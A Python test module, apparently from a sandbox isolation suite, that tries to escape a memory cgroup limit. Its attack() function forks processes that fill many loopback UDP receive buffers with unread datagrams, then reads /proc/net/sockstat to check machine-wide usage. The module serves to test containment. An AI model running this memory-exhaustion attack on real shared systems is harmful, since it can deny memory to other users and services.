"""Fill the buffers of datagram sockets that nobody reads.

Technique: what waits in a receiving UDP socket is kernel memory; of whom it is counted depends on the kernel, and net.ipv4.udp_mem
    is a bound of the whole machine.
Success: the sockets hold twice the memory limit.
Stopped by: memory_cgroup
Held when: refused or limit memory
Needs: memory_cgroup
"""
import socket
import struct

LIMIT = parameters.get("memory_bytes_max", 128 << 20)
PROCESSES, SOCKETS = 4, 900


def hold(ready, go_on):
    sockets, held = [], 0
    sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sender.setblocking(False)
    while len(sockets) < SOCKETS and held < 4 * LIMIT // PROCESSES:
        one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 << 20)
        one.bind(("127.0.0.1", 0))
        sockets.append(one)
        room = one.getsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF)
        before = held
        # A datagram takes about what it holds, and more than fits is dropped without a word.
        for _ in range(room // (61440 + 4096)):
            held += sender.sendto(bytes(61440), one.getsockname())
        one.setblocking(False)
        # What does not come in was dropped for want of memory: count what is there.
        try:
            one.recv(1, socket.MSG_PEEK)
        except BlockingIOError:
            held = before
            break
    os.write(ready, struct.pack("q", held))
    os.read(go_on, 1)


def attack():
    ready, go_on = os.pipe(), os.pipe()
    for _ in range(PROCESSES):
        if os.fork() == 0:
            try:
                hold(ready[1], go_on[0])
            finally:
                os._exit(0)
    sent = sum(struct.unpack("q", os.read(ready[0], 8))[0] for _ in range(PROCESSES))
    memory = [line for line in open("/proc/net/sockstat") if line.startswith("UDP:")][0].split()[-1]
    if sent > 2 * LIMIT:
        return f"{sent >> 20} MB wait in datagram sockets; all UDP of the machine: {int(memory) >> 8} MB"


def twin():
    """A receiver that is late."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as receiver, socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        receiver.bind(("127.0.0.1", 0))
        for number in range(50):
            sender.sendto(b"%d" % number, receiver.getsockname())
        assert [receiver.recv(100) for _ in range(50)] == [b"%d" % number for number in range(50)]
